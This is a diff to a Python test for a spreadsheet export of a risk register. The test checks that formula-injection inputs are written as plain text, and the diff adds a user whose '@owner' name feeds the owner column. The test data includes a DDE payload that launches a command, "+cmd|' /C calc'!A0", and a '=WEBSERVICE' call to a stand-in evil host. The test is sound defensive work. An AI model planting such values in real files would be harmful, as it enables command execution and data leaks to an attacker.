@@ -10,14 +10,16 @@ from openpyxl import load_workbook
 from pypdf import PdfReader
 
 from tekisei.core.assessments import AnswerFields, AnswerState
-from tekisei.core.orgs import OrgActor, OrgCreate, Principal
+from tekisei.core.orgs import OrgActor, OrgCreate, Principal, Role
 from tekisei.core.risks import RiskFields
 from tekisei.core.systems import SystemFacts
 from tekisei.errors import InvalidInputError, NotFoundError
-from tekisei.services import assessments, orgs, reports, risks, systems
+from tekisei.services import assessments, orgs, reports, risks, systems, users
 from tekisei.services.database import Database
 from tests.conftest import skip_or_fail
 from tests.render.test_sheets import assert_csv_safe, assert_text_only
+
+PASSWORD = "correct horse battery"
 
 
 @pytest.fixture
@@ -106,6 +108,14 @@ def test_the_risk_register_export_never_writes_a_formula(
     db, admin, system_id = assessed
     titles = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通のリスク"]
     with db.transaction() as session:
+        # a member's name is theirs to write: it becomes the owner column as text too
+        member = users.create_user(
+            session,
+            users.UserCreate(email="o@acme.example", name="@owner", password=PASSWORD),
+            "acme",
+            Role.EDITOR,
+            "cli",
+        )
         for title in titles:
             fields = RiskFields(
                 title=title.strip() or "x",
@@ -113,7 +123,7 @@ def test_the_risk_register_export_never_writes_a_formula(
                 likelihood=3,
                 impact=4,
                 treatment_plan='=WEBSERVICE("http://evil.example")',
-                owner="@owner",
+                owner_id=member.id,
             )
             risks.add_risk(session, admin, system_id, fields)
     with db.reading() as session:
